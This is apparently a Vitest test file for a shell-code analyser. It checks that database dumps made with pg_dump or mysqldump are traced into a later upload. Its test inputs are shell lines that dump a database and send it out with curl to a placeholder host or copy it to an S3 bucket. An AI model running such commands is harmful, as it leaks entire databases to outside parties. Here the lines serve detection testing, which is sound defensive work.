import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/** Database dumps print the user's database (src/analysis/code/shell/handlers/database-dumps.ts). */
async function sends(code: string) {
  return ofKind(await factsOf('shell', code), 'send');
}

describe('database dumps', () => {
  it.each([
    [
      'piped and compressed into a file',
      'OUT=/tmp/db.sql.gz\npg_dump "$DATABASE_URL" | gzip > "$OUT"\ncurl -F "f=@$OUT" https://x.example-one.net/u\n',
    ],
    [
      'written with -f',
      'pg_dump -Fc -f /tmp/db.dump "$DATABASE_URL"\naws s3 cp /tmp/db.dump s3://bucket-one/\n',
    ],
    [
      'mysqldump to standard output',
      'mysqldump -u root shop | curl --data-binary @- https://x.example-one.net/u\n',
    ],
  ])('%s: the upload carries the dump', async (_label, code) => {
    const s = await sends(code);
    expect(s.length).toBe(1);
    expect(s[0]!.data.taints).toContain('file');
    expect(s[0]!.data.from).toMatch(/^\$\((?:pg_dump|mysqldump) /);
  });
});
